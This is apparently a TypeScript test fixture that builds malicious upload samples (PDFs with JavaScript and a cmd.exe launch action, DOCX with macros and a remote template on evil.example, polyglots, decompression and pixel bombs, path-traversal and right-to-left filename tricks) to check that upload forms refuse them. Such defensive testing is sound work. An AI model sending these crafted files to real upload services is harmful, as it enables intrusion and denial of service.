import { crc32, deflateSync } from 'node:zlib';
import {
  compound,
  docType,
  docxLetter,
  docxType,
  objectStream,
  pdfLetter,
  pdfType,
  wordTypes,
  zipOf,
} from './letters.ts';

const PNG_SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');

function pngChunk(type: string, content: Buffer): Buffer {
  const typeAndContent = Buffer.concat([Buffer.from(type), content]);
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  checksum.writeUInt32BE(crc32(typeAndContent));
  return Buffer.concat([length, typeAndContent, checksum]);
}

/** Returns a PNG that declares a size in pixels, but contains only `rows` grey rows. */
function pngOfSize(width: number, height: number, rows = Math.min(height, 1)): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc((Math.min(width, 64) + 1) * rows));
  const chunks = [pngChunk('IHDR', header), pngChunk('IDAT', pixels), pngChunk('IEND', Buffer.alloc(0))];
  return Buffer.concat([PNG_SIGNATURE, ...chunks]);
}

/** Returns the beginning of a JPEG up to its declared size in pixels, without image data. */
function jpegOfSize(width: number, height: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16BE(height, 0);
  size.writeUInt16BE(width, 2);
  return Buffer.concat([Buffer.from('ffd8ffc0001108', 'hex'), size, Buffer.from('03012200021101031101ffd9', 'hex')]);
}

/** Returns the beginning of a WebP whose first chunk has this type and content. */
function webpOf(type: string, content: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(content.length + 12);
  return Buffer.concat([Buffer.from('RIFF'), length, Buffer.from(`WEBP${type}`), Buffer.alloc(4), content]);
}

export type HostileFile = { description: string; name: string; type: string; content: Buffer };

/** Returns a function that makes hostile files, with this name and type unless it is given others. */
const filesNamed =
  (usualName: string, usualType: string) =>
  (description: string, content: string | Buffer, name = usualName, type = usualType): HostileFile => ({
    description,
    name,
    type,
    content: Buffer.from(content as string),
  });

const SCRIPT = '<script>canary()</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="canary()">${SCRIPT}</svg>`;
const html = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const pdf = filesNamed('cv.pdf', pdfType);
const doc = filesNamed('cv.doc', docType);
const docx = filesNamed('cv.docx', docxType);
const image = filesNamed('foto.jpg', 'image/jpeg');
const joined = (...parts: (string | Buffer)[]) => Buffer.concat(parts.map((part) => Buffer.from(part as string)));
const pdfWithAction = (action: string) => pdfLetter({ catalog: `/OpenAction << /S ${action} >>` });
const foreignTemplate =
  '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>';

/** Hostile files for the upload of an application letter. */
export const hostileLetters: HostileFile[] = [
  pdf('a script', pdfWithAction('/JavaScript /JS (canary())')),
  pdf('a script with an escaped name', pdfWithAction('/J#61vaScript /J#53 (canary())')),
  pdf(
    'a script in compressed objects',
    pdfLetter({ objects: objectStream('4 0 << /S /JavaScript /JS (canary()) >>') }),
  ),
  pdf('a bomb in compressed objects', pdfLetter({ objects: objectStream('A'.repeat(17 * 1024 * 1024)) })),
  pdf(
    'corrupt compressed objects',
    pdfLetter({ objects: objectStream('4 0 << >>').replace('stream\nx', 'stream\n?') }),
  ),
  pdf('a program to launch', pdfWithAction('/Launch /F (cmd.exe)')),
  pdf('rich media', pdfLetter({ objects: '5 0 obj << /Subtype /RichMedia >> endobj' })),
  pdf('an XFA form', pdfLetter({ catalog: '/AcroForm << /XFA 6 0 R >>' })),
  pdf('HTML between its objects', pdfLetter({ objects: html })),
  pdf('an archive after its end', joined(pdfLetter(), zipOf({ 'a.js': 'canary()' }))),
  pdf('an archive that ends like a PDF', joined(pdfLetter(), zipOf({ 'a.js': 'x' }, 'startxref %%EOF'))),
  pdf('a program after its end', joined(pdfLetter(), 'MZ\u0090\u0000')),
  pdf('a picture before it', joined(jpegOfSize(8, 8), pdfLetter())),
  pdf('only the first half', pdfLetter().subarray(0, 90)),
  pdf('only a header', '%PDF-1.7\n'),
  pdf('no content', ''),
  pdf('spaces before its header', joined('   ', pdfLetter())),
  pdf('an invalid version', pdfLetter().toString('latin1').replace('%PDF-1.7', '%PDF-evil')),
  pdf('an HTML page', html),
  pdf('an SVG', svg),
  pdf('a program', joined('MZ\u0090\u0000', Buffer.alloc(512))),
  pdf('an archive', zipOf({ 'cv.pdf': 'x' })),
  pdf('a Word document', docxLetter()),
  pdf('the media type of HTML', pdfLetter(), 'cv.pdf', 'text/html'),
  pdf('the media type of SVG', pdfLetter(), 'cv.pdf', 'image/svg+xml'),
  pdf('a size above the limit', joined(pdfLetter(), Buffer.alloc(5 * 1024 * 1024, ' '))),
  pdf('the extension of a program', pdfLetter(), 'cv.pdf.exe', 'application/x-msdownload'),
  pdf('the extension of a program before its own', pdfLetter(), 'cv.exe.pdf'),
  pdf('the extension of a server page before its own', pdfLetter(), 'cv.php.pdf'),
  pdf('a right-to-left override in its name', pdfLetter(), 'cv\u202efdp.exe.pdf'),
  pdf('a null character in its name', pdfLetter(), 'cv.exe\u0000.pdf'),
  pdf('a name that is a path', pdfLetter(), '../../cv.pdf'),
  pdf('no extension', pdfLetter(), 'cv', ''),
  docx('macros', docxLetter({ 'word/vbaProject.bin': compound(['VBA']) })),
  docx(
    'macros by its content types',
    docxLetter({ '[Content_Types].xml': wordTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }),
  ),
  docx(
    'a template from another site',
    docxLetter({ 'word/_rels/settings.xml.rels': `<Relationships>${foreignTemplate}</Relationships>` }),
  ),
  docx('an embedded object', docxLetter({ 'word/embeddings/oleObject1.bin': 'x' })),
  docx('an ActiveX control', docxLetter({ 'word/activeX/activeX1.xml': '<x/>' })),
  docx('a program among its parts', docxLetter({ 'word/media/setup.exe': 'MZ' })),
  docx('a part with a path outside the archive', docxLetter({ '../../etc/cron.d/a': 'x' })),
  docx('a spreadsheet', zipOf({ '[Content_Types].xml': wordTypes(), 'xl/workbook.xml': '<x/>' })),
  docx('an archive without a document', zipOf({ 'readme.txt': 'x' })),
  docx('a Java archive', zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A' })),
  docx(
    'a bomb by its declared size',
    zipOf({ '[Content_Types].xml': wordTypes(), 'word/document.xml': 'x' }, '', { 'word/document.xml': 0xf0000000 }),
  ),
  docx('a bomb as its content types', docxLetter({ '[Content_Types].xml': wordTypes() + ' '.repeat(2 * 1024 * 1024) })),
  docx('a program before it', joined('MZ', docxLetter())),
  docx('HTML after its end', docxLetter({}, html)),
  docx('only the first half', docxLetter().subarray(0, 200)),
  docx('no content', ''),
  docx('the extension for macros', docxLetter(), 'cv.docm', 'application/vnd.ms-word.document.macroEnabled.12'),
  doc('macros', compound(['WordDocument', 'Macros', 'VBA'])),
  doc('an embedded program', compound(['WordDocument', '\u0001Ole10Native'])),
  doc('a spreadsheet', compound(['Workbook'])),
  doc('an encrypted document', compound(['EncryptionInfo', 'EncryptedPackage'])),
  doc('only its header', compound([]).subarray(0, 512)),
  doc('rich text with an object', '{\\rtf1{\\object\\objdata 0105}}'),
  doc('an HTML page', html),
];

/** Hostile files for the upload of a photo. */
export const hostilePictures: HostileFile[] = [
  image('an SVG', svg, 'foto.svg', 'image/svg+xml'),
  image('an SVG named as a photo', svg),
  image('an HTML page named as a photo', html),
  image('a GIF with a script', joined('GIF89a', '=canary();/*', Buffer.alloc(32))),
  image('a bitmap', joined('BM', Buffer.alloc(64)), 'foto.bmp', 'image/bmp'),
  image('a TIFF', joined('II*\u0000', Buffer.alloc(64)), 'foto.tiff', 'image/tiff'),
  image('a HEIC', joined('\u0000\u0000\u0000\u0018ftypheic', Buffer.alloc(64)), 'foto.heic', 'image/heic'),
  image('an icon', joined('\u0000\u0000\u0001\u0000', Buffer.alloc(64)), 'foto.ico', 'image/x-icon'),
  image('a PDF named as a photo', pdfLetter()),
  image('an archive named as a photo', zipOf({ 'a.php': 'x' })),
  image('an empty photo', ''),
  image('only the first bytes of a JPEG', Buffer.from('ffd8ff', 'hex')),
  image('the first bytes of a JPEG before HTML', joined(Buffer.from('ffd8ffe0', 'hex'), html)),
  image('the first bytes of a PNG before HTML', joined(Buffer.from('89504e470d0a1a0a', 'hex'), html), 'foto.png'),
  image('the first bytes of a WebP before HTML', joined('RIFF    WEBP', html), 'foto.webp', 'image/webp'),
  image('a PNG of 4 billion pixels', pngOfSize(65_535, 65_535), 'foto.png', 'image/png'),
  image('a PNG one pixel high and 2 billion wide', pngOfSize(0x7fffffff, 1), 'foto.png', 'image/png'),
  image('a PNG without a width', pngOfSize(0, 16), 'foto.png', 'image/png'),
  image('a PNG whose rows end early', pngOfSize(4000, 4000, 1).subarray(0, 44), 'foto.png', 'image/png'),
  image('a JPEG of 4 billion pixels', jpegOfSize(65_535, 65_535)),
  image('a JPEG without a height', jpegOfSize(640, 0)),
  image('a JPEG without a picture', jpegOfSize(640, 480)),
  image('a WebP of 100 million pixels', webpOf('VP8X', Buffer.from('00000000ffffffffffff', 'hex')), 'foto.webp'),
  image('a WebP with an unknown chunk', webpOf('EVIL', Buffer.alloc(64)), 'foto.webp', 'image/webp'),
  image('a size above the limit', joined(pngOfSize(8, 8), Buffer.alloc(15 * 1024 * 1024)), 'foto.png', 'image/png'),
  image('a compressed HTML page', deflateSync(html)),
];

/** All hostile files; both forms refuse each of them, whatever its name and type are. */
export const hostileFiles = [...hostileLetters, ...hostilePictures];
